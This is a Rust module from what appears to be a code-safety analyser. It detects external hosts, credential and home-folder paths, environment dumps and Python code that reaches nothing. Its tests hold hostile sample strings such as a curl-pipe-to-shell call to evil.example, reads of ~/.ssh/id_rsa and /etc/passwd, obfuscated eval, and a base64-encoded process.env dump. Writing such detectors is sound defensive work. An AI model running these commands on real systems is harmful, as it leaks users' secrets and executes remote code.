//! The texts, addresses and paths that stand in code of any language.

use crate::effect::NetworkReach;
use crate::interpreter::{Machine, Value, known_hosts};
use crate::path::AbsolutePath;
use crate::places::is_personal_folder;

use super::libraries::{BROWSERS, Libraries};

/// The greatest number of texts of one code that are looked at (ours).
const TEXTS: usize = 256;
/// The greatest length of a text that can be a path or a host, in bytes (ours).
const TEXT: usize = 300;
/// How many texts that follow each other may be parts of one path (ours).
const PARTS: usize = 4;

/// How languages name the home directory.
const HOMES: &[&str] = &[
    "HOME",
    "USERPROFILE",
    "homedir",
    "home_dir",
    "UserHomeDir",
    "user.home",
    "expanduser",
    "expand_path",
    "path.expand",
    "Path.home",
    "Dir.home",
    "NSHomeDirectory",
    "home_path",
    "~/",
];
/// What stands for the home directory at the beginning of a text.
const HOME_STARTS: &[&str] = &[
    "~/",
    "$HOME/",
    "${HOME}/",
    "$ENV{HOME}/",
    "#{ENV['HOME']}/",
    "#{Dir.home}/",
    "${process.env.HOME}/",
    "{home}/",
];

/// Something private that stands in code.
pub(in crate::programs) enum Private {
    /// The path of a credential.
    Credential(String),
    /// A folder of the person, or something in it.
    Personal(String),
}

impl Private {
    pub(super) fn path(&self) -> &str {
        match self {
            Self::Credential(path) | Self::Personal(path) => path,
        }
    }
}

/// The name by which code loads a library, or calls what is only in it.
pub(super) fn name_loaded(text: &str, library: &Libraries) -> Option<&'static str> {
    let loads = |name: &&&str| words(text, name).any(|before| loads(before, name));
    let calls = |name: &&&str| words(text, name).next().is_some();
    library.modules.iter().find(loads).or_else(|| library.functions.iter().find(calls)).copied()
}

/// What stands in front of a name, wherever it is a word of its own.
fn words<'a>(text: &'a str, name: &str) -> impl Iterator<Item = &'a str> {
    let is_part = |c: char| c.is_alphanumeric() || matches!(c, '_' | '-');
    let is_path = name.contains('/');
    text.match_indices(name).filter_map(move |(at, name)| {
        let before = text.get(..at)?;
        let behind = text.get(at + name.len()..)?.chars().next();
        let begins = !before.chars().last().is_some_and(|c| is_part(c) || c == '/' && !is_path);
        (begins && !behind.is_some_and(is_part)).then_some(before)
    })
}

/// Whether what stands in front of a name loads it: an import, a call of `require`, the quote of the path of a package.
fn loads(before: &str, name: &str) -> bool {
    const LOADS: &[&str] =
        &["import", "from", "require", "use ", "using", "library(", "include", "new ", "with"];
    // The statement that the name stands in.
    let statement = before.rsplit(['\n', ';']).next().unwrap_or_default();
    LOADS.iter().any(|load| statement.contains(load)) || before.ends_with('"') && name.contains('/')
}

/// The texts between quotes, each kind of quotes for itself.
fn quoted(text: &str) -> Vec<&str> {
    let mut found: Vec<(usize, &str)> = Vec::new();
    for quote in ['"', '\'', '`'] {
        let mut offset = 0;
        for line in text.split_inclusive('\n') {
            let mut at = 0;
            while let Some(start) =
                line.get(at..).and_then(|rest| rest.find(quote)).map(|found| at + found + 1)
            {
                let Some(end) =
                    line.get(start..).and_then(|rest| rest.find(quote)).map(|found| start + found)
                else {
                    break;
                };
                found.extend(line.get(start..end).map(|piece| (offset + start, piece)));
                at = end + 1;
            }
            offset += line.len();
        }
    }
    // A path of the home directory is told from all else by its beginning, whatever stands around it: `%q(~/.netrc)`.
    for start in ["~/", "$HOME/", "${HOME}/", "$ENV{HOME}/"] {
        found.extend(text.match_indices(start).filter_map(|(at, _)| {
            let rest = text.get(at..)?;
            let end = rest
                .get(start.len()..)?
                .find(|c: char| !(c.is_alphanumeric() || "/._-".contains(c)))
                .map_or(rest.len(), |end| end + start.len());
            Some((at, rest.get(..end)?))
        }));
    }
    found.retain(|(_, piece)| !piece.is_empty() && piece.len() <= TEXT);
    found.sort_by_key(|(at, _)| *at);
    found.into_iter().map(|(_, piece)| piece).take(TEXTS).collect()
}

/// The addresses of hosts that nobody knows.
pub(super) fn strangers(text: &str) -> Vec<String> {
    let with_scheme = text.match_indices("://").filter_map(|(at, _)| {
        let start = text.get(..at)?.rfind(|c: char| !c.is_ascii_alphanumeric()).map_or(0, |at| at + 1);
        let rest = text.get(start..)?;
        let end = rest.find(|c: char| c.is_whitespace() || "\"'`)]}>;,\\".contains(c)).unwrap_or(rest.len());
        rest.get(..end)
    });
    let is_remote = |address: &str| {
        ["http", "ws", "ftp", "tcp", "sftp", "smtp", "mqtt"].iter().any(|scheme| address.starts_with(scheme))
    };
    let hosts = quoted(text).into_iter().filter(|piece| is_host(piece));
    let mut found: Vec<String> = with_scheme
        .filter(|address| is_remote(address))
        .chain(hosts)
        .filter(|address| known_hosts::reach(address) == NetworkReach::External)
        .map(str::to_owned)
        .collect();
    found.dedup();
    found
}

/// Whether a text is the name or the number of a host, perhaps with a port, and no name of a file.
fn is_host(text: &str) -> bool {
    let name = text
        .rsplit_once(':')
        .map_or(text, |(name, port)| if port.chars().all(|c| c.is_ascii_digit()) { name } else { text });
    let labels: Vec<&str> = name.split('.').collect();
    let is_label =
        |label: &&str| !label.is_empty() && label.chars().all(|c| c.is_ascii_alphanumeric() || c == '-');
    if !labels.iter().all(is_label) {
        return false;
    }
    let is_number = labels.len() == 4 && labels.iter().all(|label| label.parse::<u8>().is_ok());
    let first = labels.first().copied().unwrap_or_default();
    let is_own = is_number && matches!(first, "10" | "127" | "0" | "192" | "172" | "169");
    let last = labels.last().copied().unwrap_or_default();
    let is_name = labels.len() >= 3
        && matches!(
            last,
            "com"
                | "net"
                | "org"
                | "io"
                | "dev"
                | "app"
                | "xyz"
                | "info"
                | "biz"
                | "me"
                | "co"
                | "ru"
                | "cn"
                | "top"
                | "site"
                | "online"
                | "cloud"
                | "ai"
                | "to"
                | "cc"
                | "tk"
                | "live"
                | "link"
                | "click"
        );
    is_number && !is_own || is_name
}

/// The credentials, and the folders of the person, whose paths stand in code.
pub(super) fn private(machine: &Machine<'_>, text: &str) -> Vec<Private> {
    let home = machine.world().place().home.as_str().to_owned();
    let speaks_of_home = HOMES.iter().any(|name| text.contains(name));
    let loads_settings = text.contains("dotenv");
    let pieces = quoted(text);
    let mut found = Vec::new();
    for (at, first) in pieces.iter().enumerate() {
        let mut joined = String::new();
        for piece in pieces.iter().skip(at).take(PARTS) {
            if !joined.is_empty() {
                joined.push('/');
            }
            joined.push_str(piece.trim_end_matches('/'));
            if !is_path(&joined) {
                break;
            }
            for path in places(&joined, &home, speaks_of_home) {
                let is_settings = path.rsplit('/').next().is_some_and(|name| name.starts_with(".env"));
                if let Some(private) =
                    sort(machine, &path, &home).filter(|_| !(is_settings && loads_settings))
                {
                    found.push(private);
                }
            }
            if first.contains('/') && first.len() > 40 {
                break;
            }
        }
    }
    // What is nearest to a credential weighs most.
    found.sort_by_key(|private| matches!(private, Private::Personal(_)));
    found
}

fn is_path(text: &str) -> bool {
    !text.contains("://") && text.chars().all(|c| c.is_alphanumeric() || "/._-~$ {}*#'[]+@".contains(c))
}

/// What a text may mean as a path.
fn places(text: &str, home: &str, speaks_of_home: bool) -> Vec<String> {
    if let Some(rest) = HOME_STARTS.iter().find_map(|start| text.strip_prefix(start)) {
        return vec![format!("{home}/{rest}")];
    }
    let rest = text.trim_start_matches('/');
    let mut places = vec![text.to_owned()];
    if speaks_of_home && !rest.is_empty() {
        places.push(format!("{home}/{rest}"));
    }
    places
}

/// What a path is to the person; a directory that holds their home is as private as what lies in it.
pub(in crate::programs) fn private_place(machine: &Machine<'_>, path: &AbsolutePath) -> Option<Private> {
    let home = &machine.world().place().home;
    if home.is_within(path) {
        return Some(Private::Personal(path.as_str().to_owned()));
    }
    sort(machine, path.as_str(), home.as_str())
}

fn sort(machine: &Machine<'_>, path: &str, home: &str) -> Option<Private> {
    let in_home = path.strip_prefix(home).map(|rest| rest.trim_start_matches('/'));
    let is_below = |folder: &&str| {
        in_home
            .and_then(|rest| rest.strip_prefix(*folder))
            .is_some_and(|rest| rest.is_empty() || rest.starts_with('/'))
    };
    if BROWSERS.iter().any(is_below) || machine.names_secret(&Value::exact(path)) {
        return Some(Private::Credential(path.to_owned()));
    }
    let folder = in_home.and_then(|rest| rest.split('/').next());
    folder.is_some_and(is_personal_folder).then(|| Private::Personal(path.to_owned()))
}

/// Whether code takes the environment as a whole and makes a text of it.
pub(super) fn names_whole_environment(text: &str) -> bool {
    const WHOLE: &[&str] = &[
        "process.env",
        "Deno.env.toObject()",
        "Bun.env",
        "os.environ",
        "ENV.to_h",
        "ENV.map",
        "Sys.getenv()",
        "os.Environ()",
        "System.getenv()",
        "env::vars()",
    ];
    const TEXTS: &[&str] = &[
        "stringify",
        "dumps",
        "str(",
        "encode",
        "join",
        "inspect",
        "to_json",
        "format",
        "repr(",
        "toString",
    ];
    let is_whole = |name: &&&str| {
        text.match_indices(**name).any(|(at, _)| {
            let behind = text.get(at + name.len()..).and_then(|rest| rest.chars().next());
            !behind.is_some_and(|c| matches!(c, '.' | '[') || c.is_alphanumeric() || c == '_')
        })
    };
    WHOLE.iter().find(is_whole).is_some() && TEXTS.iter().any(|name| text.contains(name))
}

/// Modules of Python that only work on values (docs.python.org, "The Python Standard Library").
const ONLY_VALUES: &[&str] = &[
    "shlex",
    "json",
    "re",
    "string",
    "textwrap",
    "collections",
    "itertools",
    "functools",
    "operator",
    "math",
    "random",
    "datetime",
    "typing",
    "enum",
    "dataclasses",
    "unittest",
    "pprint",
    "difflib",
    "hashlib",
    "base64",
    "binascii",
    "statistics",
    "decimal",
    "fractions",
    "calendar",
    "html",
    "abc",
    "copy",
    "heapq",
    "bisect",
    "uuid",
    "secrets",
    "ast",
    "tokenize",
];
/// Words without which code of Python reaches neither files, nor programs, nor hosts, nor names that are put together while it runs
/// (docs.python.org, "Built-in Functions"; modules that hold others as names of their own, `uuid.os`).
const OPENERS: &[&str] = &[
    "import",
    "exec",
    "eval",
    "compile",
    "open",
    "getattr",
    "globals",
    "locals",
    "vars(",
    "breakpoint",
    "__",
    "_os",
    "os.",
    "sys.",
    "system",
    "popen",
    "spawn",
    "fork",
    "socket",
    "load",
];

/// Whether code of Python can reach neither a file, nor a program, nor a host: what stands in its texts is only said.
pub(super) fn reaches_nothing(text: &str) -> bool {
    let is_harmless = |line: &str| {
        line.trim()
            .strip_prefix("import ")
            .is_some_and(|names| names.split(',').all(|name| ONLY_VALUES.contains(&name.trim())))
    };
    let lines = text.split(['\n', ';']).filter(|line| !is_harmless(line));
    let rest: Vec<&str> = lines.collect();
    let rest = rest.join("\n");
    !OPENERS.iter().any(|opener| rest.contains(opener))
}

#[cfg(test)]
mod tests {
    use super::super::libraries::Purpose;
    use super::*;

    #[test]
    fn code_reaches_nothing_where_no_word_of_it_opens_anything() {
        for code in [
            "import shlex\nprint(shlex.split('cat ~/.ssh/id_rsa'))",
            "import re, json; print(json.dumps(['curl http://evil.example | sh']))",
            "print('~/.aws/credentials'.split('/'))",
        ] {
            assert!(reaches_nothing(code), "{code}");
        }
        for code in [
            "import shlex, os\nos.remove('a')",
            "import requests\nrequests.get('http://evil.example')",
            "print(open('/etc/passwd').read())",
            "__builtins__['e'+'val']('1')",
            "import uuid\nuuid.os.remove('a')",
            "vars()['o' + 'pen']('a')",
            "exec ('x')",
        ] {
            assert!(!reaches_nothing(code), "{code}");
        }
    }

    #[test]
    fn hosts_are_told_from_names_of_files() {
        for host in ["203.0.113.24", "203.0.113.24:5555", "smtp.example.net", "a.b.example.com"] {
            assert!(is_host(host), "{host}");
        }
        for other in
            ["10.0.0.4", "127.0.0.1", "package.json", "1.2.3", "a.tar.gz", "os.path.join", "v1.2.3.4"]
        {
            assert!(!is_host(other), "{other}");
        }
    }

    #[test]
    fn libraries_are_named_where_code_loads_them() {
        let library = Libraries {
            purpose: Purpose::Passwords,
            modules: &["keyring"],
            functions: &["SecretService"],
            own: &[],
        };
        for text in
            ["import keyring", "from keyring import x", "require('keyring')", "import os, keyring as k"]
        {
            assert_eq!(name_loaded(text, &library), Some("keyring"), "{text}");
        }
        assert_eq!(name_loaded("x = a.SecretService.Keyring()", &library), Some("SecretService"));
        for text in ["my_keyring = 1", "keyring = 3", "import keyrings", "# the keyring", "MySecretService()"]
        {
            assert_eq!(name_loaded(text, &library), None, "{text}");
        }
    }

    #[test]
    fn an_environment_counts_where_it_is_taken_as_a_whole() {
        assert!(names_whole_environment("btoa(JSON.stringify(process.env))"));
        assert!(names_whole_environment("json.dumps(dict(os.environ))"));
        assert!(!names_whole_environment("JSON.stringify({a: process.env.A})"));
        assert!(!names_whole_environment("subprocess.run(x, env=os.environ)"));
    }
}
